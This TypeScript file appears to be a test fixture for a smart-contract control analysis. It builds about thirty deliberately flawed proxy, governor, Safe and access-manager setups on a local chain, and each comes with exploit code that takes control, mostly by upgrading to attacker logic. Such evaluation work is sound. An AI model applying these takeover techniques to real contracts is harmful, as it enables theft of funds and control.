/** Systems that break an assumption of the analysis, each written with its source at hand. */
import {
  concatHex,
  getContractAddress,
  type Hex,
  hexToBigInt,
  keccak256,
  padHex,
  stringToHex,
  toFunctionSelector,
  toHex,
} from 'viem'
import { openZeppelin4, openZeppelin5 } from '../../evm/compile.ts'
import { signers } from '../../evm/control.ts'
import { assemble } from '../assemble.ts'
import { type Case, WEAK, WITHOUT_DELAY } from '../case.ts'
import { type Chain, callData, LOGIC_SLOT, NO_OWNER, system } from '../chain.ts'
import { deploySafe, execSafe, execSigned, safeSingleton, setupData, upgradeCall } from '../safes.ts'
import { EXECUTE, now, pass, proposal, QUEUE, queued, TIMES, tokenFor, voted } from './lists.ts'
import { controlledBy, part } from './lying-getters.ts'
import { replaceable } from './passing-storage.ts'
import { safeWithAllowances, transferByDelegate } from './walks.ts'

const TAKEN = keccak256(stringToHex('taken'))
const AS_WORD = assemble(`${TAKEN} 0x00 MSTORE 0x20 0x00 RETURN`)
const setWord =
  (...more: readonly string[]): Case['exploit'] =>
  async ({ send, deployRuntime }, { address, parts }) => {
    await send(parts.set ?? address, 'set(address)', [await deployRuntime(AS_WORD)])
    for (const signature of more) await send(address, signature)
  }
const word = (value: bigint): Hex => toHex(value, { size: 32 })
const hashOf = (...words: readonly bigint[]): bigint => hexToBigInt(keccak256(concatHex(words.map(word))))

/** From there to the slot of the logic. */
const distance = (from: bigint): bigint => (BigInt(LOGIC_SLOT) - from + 2n ** 256n) % 2n ** 256n

const FORWARD = 'forward(address,bytes)'
const UPGRADE = 'upgradeToAndCall(address,bytes)'

const signAsContracts: Case['exploit'] = async (attack, built) => {
  const owners = ['owner0', 'owner1'].map((name) => part(built, name)).sort((a, b) => (BigInt(a) < BigInt(b) ? -1 : 1))
  const heads = owners.map((owner) => concatHex([word(BigInt(owner)), word(BigInt(owners.length * 65)), '0x00']))
  const data = upgradeCall(built.address, attack.code)
  await execSafe(attack, part(built, 'controller'), part(built, 'admin'), data, concatHex([...heads, word(0n)]))
}

const executeLong: Case['exploit'] = async (attack, built) => {
  const run = (data: Hex): Promise<void> =>
    execSigned(attack, part(built, 'safe'), part(built, 'controller'), data, [attack.hidden(0), attack.hidden(1)])
  const eta = (await now(attack)) + 180_000n
  const operation = (signature: string, data: Hex): Hex =>
    callData(signature, [part(built, 'admin'), 0n, '', padHex(data, { size: 1_024, dir: 'right' }), eta])
  await run(operation(QUEUE, '0x'))
  await attack.wait(181_000)
  await run(operation(EXECUTE, upgradeCall(built.address, attack.code)))
}

const drafts: readonly Omit<Case, 'cause' | 'truth' | 'settings'>[] = [
  {
    name: 'a proxy returns what its logic reverts with',
    by: 'anyone',
    build: async (chain: Chain) =>
      system(await chain.deploy('IgnoringProxy', await chain.deploy('Plain'), await chain.deploy('RevertingLogic'))),
    exploit: setWord(),
  },
  {
    name: 'a proxy returns a word that its logic reverts with',
    by: 'anyone',
    build: async (chain: Chain) =>
      system(
        await chain.deploy('IgnoringWordProxy', await chain.deploy('Plain'), await chain.deploy('RevertingLogic')),
      ),
    exploit: setWord(),
  },
  {
    name: 'the fallback function runs a library function that asks',
    by: 'anyone',
    build: async (chain) =>
      system(await chain.deploy('LibraryProxy', await chain.deploy('Plain'), await chain.deploy('AskingLibrary'))),
    exploit: setWord(),
  },
  {
    name: 'the fallback function runs a function of its own that asks',
    by: 'anyone',
    build: async (chain) => system(await chain.deploy('RunsItself', await chain.deploy('Plain'))),
    exploit: setWord(),
  },
  {
    name: 'the fallback function asks a contract that asks another one',
    by: 'anyone',
    build: async (chain) => {
      const set = await chain.deploy('Asker', await chain.deploy('Plain'))
      return system(await chain.deploy('AsksAsker', set), { set })
    },
    exploit: setWord(),
  },
  {
    name: 'the fallback function stores the answer before it returns it',
    by: 'anyone',
    build: async (chain) => system(await chain.deploy('StoredAnswer', await chain.deploy('Plain'))),
    exploit: setWord(),
  },
  {
    name: 'a function stores the answer that the fallback function returns',
    by: 'anyone',
    build: async (chain) => system(await chain.deploy('KeptAnswer', await chain.deploy('Plain'))),
    exploit: setWord('poke()'),
  },
  {
    name: 'any account says what the fallback function answers',
    by: 'anyone',
    build: async (chain) => system(await chain.deploy('SaidAnswer')),
    exploit: ({ send }, { address }) => send(address, 'say(bytes4,bytes32)', [toFunctionSelector('taken()'), TAKEN]),
  },
  {
    name: 'the length of a list in a list was stored at creation',
    by: 'anyone',
    build: async (chain) => system(await chain.deploy('Grid', await chain.deploy('Plain'))),
    exploit: ({ send, code }, { address }) =>
      send(address, 'fill(uint256,uint256,uint256)', [0n, distance(hashOf(hashOf(1n))), BigInt(code)]),
  },
  {
    name: 'a beacon returns what its logic reverts with',
    by: 'anyone',
    build: async (chain) => {
      const plain = await chain.deploy('Plain')
      const beacon = await chain.deploy('Beacon', plain, await chain.deploy('BeaconLogic', plain))
      return system(await chain.deployArtifact(openZeppelin4('BeaconProxy'), beacon, '0x'), { set: beacon })
    },
    exploit: ({ send, code }, built) => send(part(built, 'set'), 'set(address)', [code]),
  },
  {
    name: 'the owner of the logic itself destroys it',
    by: 'one key',
    hardfork: 'shanghai',
    build: async (chain) => {
      const { factory, at } = await replaceable(chain, () => chain.deploy('RunningLogic'))
      await chain.send(at, 'initialize(address)', [chain.hidden().address])
      const proxy = await chain.deploy('PlainAdminProxy', at, await chain.timelock())
      await chain.send(proxy, 'initialize(address)', [await chain.timelock()])
      return system(proxy, { factory, logic: at })
    },
    exploit: async (attack, built) => {
      await attack.send(part(built, 'logic'), 'run(address)', [await attack.deploy('Destroyer')])
      await attack.send(part(built, 'factory'), 'make(address)', [attack.code])
    },
  },
  {
    name: 'the cancellation of a proposal executes it',
    by: 'anyone',
    build: async (chain) => {
      const lock = await chain.deploy('ObeyingLock')
      const governor = await chain.deploy('CancellableBallots', await tokenFor()(chain), lock)
      await chain.send(lock, 'start(address)', [governor])
      const built = await controlledBy(chain, lock)
      return system(built.address, { ...built.parts, governor })
    },
    exploit: async ({ send, code }, built) => {
      const call = [part(built, 'admin'), upgradeCall(built.address, code)]
      await send(part(built, 'governor'), 'propose(address,bytes)', call)
      await send(part(built, 'governor'), 'cancel(address,bytes)', call)
    },
  },
  {
    name: 'the fallback handlers of nested Safes have no code yet',
    by: 'one key',
    build: async (chain) => {
      const fallbackHandler = getContractAddress({ from: chain.hidden().address, nonce: 0n })
      const owner0 = await deploySafe(chain, { owners: signers(5), threshold: 3, fallbackHandler })
      const owner1 = await deploySafe(chain, { owners: signers(5, 20), threshold: 3, fallbackHandler })
      const safe = await deploySafe(chain, { owners: [owner0, owner1], threshold: 2 })
      return controlledBy(chain, safe, { owner0, owner1 })
    },
    exploit: async (attack, built) => {
      await attack.deploy('YesOwner')
      await signAsContracts(attack, built)
    },
  },
  {
    name: 'logic that no event names added a ward',
    by: 'one key',
    build: async (chain) => {
      const [logic, first] = [await chain.deploy('LoudWards'), chain.evm.accounts[0] as Hex]
      const address = await chain.proxy(logic)
      await chain.send(address, 'initialize(address,address)', [first, first])
      await chain.send(address, 'rely(address)', [await chain.timelock()])
      await chain.send(address, UPGRADE, [await chain.deploy('Filler'), '0x'])
      await chain.send(address, 'fill(address,address,address)', [chain.hidden().address, first, logic])
      return system(address)
    },
    exploit: ({ send, code }, { address }) => send(address, UPGRADE, [code, '0x']),
  },
  {
    name: 'a contract was created again with another ward',
    by: 'one key',
    hardfork: 'shanghai',
    build: async (chain) => {
      const first = chain.evm.accounts[0] as Hex
      const source = await chain.deploy('MortalWards')
      const factory = await chain.deploy('Rebirth')
      const MAKE = 'make(address,address,address,address)'
      const make = callData(MAKE, [source, first, NO_OWNER, NO_OWNER])
      const answer = await chain.node.rpc<Hex>('eth_call', { from: first, to: factory, data: make }, 'latest')
      const address: Hex = `0x${answer.slice(-40)}`
      await chain.send(factory, MAKE, [source, first, NO_OWNER, NO_OWNER])
      await chain.evm.mine(500)
      await chain.send(address, 'close()', [])
      await chain.send(factory, MAKE, [source, await chain.timelock(), chain.hidden().address, NO_OWNER])
      return system(address)
    },
    exploit: ({ send }, { address }) => send(address, 'close()'),
  },
  {
    name: 'the extension of a governor rewinds the counter of proposals',
    by: 'anyone',
    build: async (chain) => {
      const council = await chain.council()
      const token = await chain.deploy('CheckpointToken', council)
      const governor = await chain.deploy('ExtendedBallots', token)
      const built = await controlledBy(chain, governor, { token })
      await chain.send(token, 'delegate(address)', [council], council)
      await chain.send(governor, 'propose(address,bytes)', [governor, '0x'])
      await chain.send(governor, 'vote(uint256,bool)', [1n, true], council)
      return built
    },
    exploit: async ({ send, wait, code }, built) => {
      const governor = part(built, 'controller')
      await send(governor, 'rewind(uint256)', [0n])
      await send(governor, 'propose(address,bytes)', [part(built, 'admin'), upgradeCall(built.address, code)])
      await wait(700_000)
      await send(governor, 'execute(uint256)', [1n])
    },
  },
  {
    name: 'nested Safes answer with their nonce whether a signature is valid',
    by: 'anyone',
    build: async (chain) => {
      const [singleton, to] = [await safeSingleton(chain), await chain.deploy('NonceWriter')]
      const owners: Hex[] = []
      for (const from of [10, 20]) {
        const inner = await chain.deploy('SafeProxy', singleton)
        const setup = { owners: signers(5, from), threshold: 3, to, data: callData('write()') }
        await chain.evm.sendRaw(inner, setupData(setup))
        owners.push(inner)
      }
      const [owner0, owner1] = owners as [Hex, Hex]
      const safe = await deploySafe(chain, { owners, threshold: 2 })
      return controlledBy(chain, safe, { owner0, owner1 })
    },
    exploit: signAsContracts,
  },
  {
    name: 'a table in memory says how much of the data a key covers',
    by: 'the signers',
    build: queued('TableQueue'),
    exploit: executeLong,
  },
  {
    name: 'a store in memory says how much of the data a key covers',
    by: 'the signers',
    build: queued('HitQueue'),
    exploit: executeLong,
  },
  {
    name: 'a loop over the data says how much of it a key covers',
    by: 'the signers',
    build: queued('LoopQueue'),
    exploit: executeLong,
  },
  {
    name: 'the first logic of a proxy that no event names added a ward',
    by: 'one key',
    build: async (chain) => {
      const address = await chain.deploy('QuietProxy', await chain.deploy('FirstLogic'))
      const logic = await chain.deploy('ReportedWards')
      const fill = [await chain.timelock(), chain.hidden().address, logic]
      await chain.send(address, 'fill(address,address,address)', fill)
      return system(address)
    },
    exploit: ({ send, code }, { address }) => send(address, UPGRADE, [code, '0x']),
  },
  {
    name: 'earlier logic was a clone of code that added a ward',
    by: 'one key',
    build: async (chain) => {
      const first = await chain.deploy('FirstLogic')
      const clone = concatHex(['0x363d3d373d3d3d363d73', first, '0x5af43d82803e903d91602b57fd5bf3'])
      const address = await chain.proxy(await chain.deployRuntime(clone))
      const fill = [await chain.timelock(), chain.hidden().address, await chain.deploy('ReportedWards')]
      await chain.send(address, 'fill(address,address,address)', fill)
      return system(address)
    },
    exploit: ({ send, code }, { address }) => send(address, UPGRADE, [code, '0x']),
  },
  {
    name: 'earlier logic ran code that added a ward',
    by: 'one key',
    build: async (chain) => {
      const address = await chain.proxy(await chain.deploy('RunsAnything'))
      const fill = [await chain.timelock(), chain.hidden().address, await chain.deploy('ReportedWards')]
      const first = await chain.deploy('FirstLogic')
      await chain.send(address, 'run(address,bytes)', [first, callData('fill(address,address,address)', fill)])
      return system(address)
    },
    exploit: ({ send, code }, { address }) => send(address, UPGRADE, [code, '0x']),
  },
  {
    name: 'an earlier ward ran code that added a ward',
    by: 'one key',
    build: async (chain) => {
      const [first, lock, logic] = [
        chain.evm.accounts[0] as Hex,
        await chain.timelock(),
        await chain.deploy('ExecWards'),
      ]
      const address = await chain.proxy(logic)
      await chain.send(address, 'initialize(address)', [first])
      await chain.send(address, 'rely(address)', [lock])
      const fill = callData('fill(address,address,address)', [chain.hidden().address, first, logic])
      await chain.send(address, 'run(address,bytes)', [await chain.deploy('Filler'), fill])
      return system(address)
    },
    exploit: ({ send, code }, { address }) => send(address, UPGRADE, [code, '0x']),
  },
  {
    name: 'the owner of a beacon obeys the beacon, which calls what anyone names',
    by: 'anyone',
    build: async (chain) => {
      const beacon = await chain.deploy('CallingBeacon', await chain.deploy('Plain'))
      const owner = await chain.deploy('ObeyingOwner', await chain.timelock(), beacon)
      await chain.send(beacon, 'start(address)', [owner])
      return system(await chain.deployArtifact(openZeppelin4('BeaconProxy'), beacon, '0x'), { beacon, owner })
    },
    exploit: ({ send, code }, built) => {
      const upgrade = callData('upgradeTo(address)', [code])
      const forward = callData('forward(address,bytes)', [part(built, 'beacon'), upgrade])
      return send(part(built, 'beacon'), 'exec(address,bytes)', [part(built, 'owner'), forward])
    },
  },
  {
    name: 'a byte of the code that the caller chooses marks who has voted',
    by: 'one key',
    build: voted('CodeMarkedBallots', tokenFor()),
    exploit: pass('vote(bytes32,bool,uint256)', [0n], undefined, TIMES),
  },
  {
    name: 'a vote is recorded for one proposal and counted for another one',
    by: 'one key',
    build: voted('MovingBallots', tokenFor()),
    exploit: async ({ send, mine, wait, code }, built) => {
      const [governor, target] = [part(built, 'controller'), part(built, 'admin')]
      const data = upgradeCall(built.address, code)
      await send(governor, 'propose(address,bytes)', [target, data])
      await mine(2)
      for (let n = 0; n < TIMES; n += 1) {
        await send(governor, 'point(bytes32)', [word(BigInt(n))])
        await send(governor, 'vote(bytes32,bool)', [proposal(target, data), true])
      }
      await wait(700_000)
      await send(governor, 'execute(address,bytes)', [target, data])
    },
  },
  {
    name: 'a vote is recorded for one number of a list and counted for another one',
    by: 'one key',
    build: voted('ListedBallots', tokenFor()),
    exploit: async ({ send, mine, wait, code }, built) => {
      const [governor, target] = [part(built, 'controller'), part(built, 'admin')]
      const data = upgradeCall(built.address, code)
      await send(governor, 'propose(address,bytes)', [target, data])
      await mine(2)
      await send(governor, 'add(bytes32)', [proposal(target, data)])
      for (let n = 1; n <= TIMES; n += 1) {
        await send(governor, 'add(bytes32)', [word(BigInt(n))])
        await send(governor, 'vote(uint256,uint256,bool)', [BigInt(n), 0n, true])
      }
      await wait(700_000)
      await send(governor, 'execute(address,bytes)', [target, data])
    },
  },
  {
    name: 'the administrator of one role in a list grants another one',
    by: 'one key',
    build: async (chain) => {
      const address = await chain.proxy(await chain.deploy('ListedRoles'))
      await chain.send(address, 'initialize(address,address)', [await chain.timelock(), chain.hidden().address])
      return system(address)
    },
    exploit: async ({ send, account, code }, { address }) => {
      await send(address, 'grant(uint256,uint256,address)', [0n, 1n, account.address])
      await send(address, UPGRADE, [code, '0x'])
    },
  },
  {
    name: 'an AccessManager lets one key use a contract that the manager lets use the owner',
    by: 'one key',
    build: async (chain) => {
      const [lock, key] = [await chain.timelock(), chain.hidden().address]
      const manager = await chain.deployArtifact(openZeppelin5('AccessManager'), lock)
      const owner = await chain.deploy('ForwardingOwner', manager)
      const relay = await chain.deploy('ForwardingOwner', manager)
      const forward = callData(FORWARD, [owner, '0x']).slice(0, 10)
      const allow = async (target: Hex, role: bigint, member: Hex): Promise<void> => {
        await chain.send(manager, 'setTargetFunctionRole(address,bytes4[],uint64)', [target, [forward], role], lock)
        await chain.send(manager, 'grantRole(uint64,address,uint32)', [role, member, 0], lock)
      }
      await allow(owner, 7n, relay)
      await allow(relay, 8n, key)
      const built = await controlledBy(chain, owner)
      return system(built.address, { ...built.parts, manager, relay })
    },
    exploit: async ({ send, code }, built) => {
      const [manager, relay] = [part(built, 'manager'), part(built, 'relay')]
      const run = (target: Hex, data: Hex): Hex => callData('execute(address,bytes)', [target, data])
      const upgrade = callData(FORWARD, [part(built, 'admin'), upgradeCall(built.address, code)])
      const inner = run(part(built, 'controller'), upgrade)
      await send(manager, 'execute(address,bytes)', [relay, callData(FORWARD, [manager, inner])])
    },
  },
  {
    name: 'a delegate of a Safe may transfer a token, and the transfer is an order for a module',
    by: 'anyone',
    build: async (chain) => {
      const safe = await safeWithAllowances(chain)
      const built = await controlledBy(chain, safe)
      const module = await chain.deploy('OrderModule', safe, part(built, 'admin'), built.address)
      await chain.send(safe, 'enableModule(address)', [module], safe)
      return system(built.address, { ...built.parts, module })
    },
    exploit: (attack, built) => transferByDelegate(attack, part(built, 'controller'), part(built, 'module')),
  },
]

export const brokenAssumptions: readonly Case[] = drafts.map((draft) => ({
  ...draft,
  settings: ['optimized'],
  cause: 'forwarder',
  truth: draft.by === 'the signers' ? WITHOUT_DELAY : WEAK,
}))
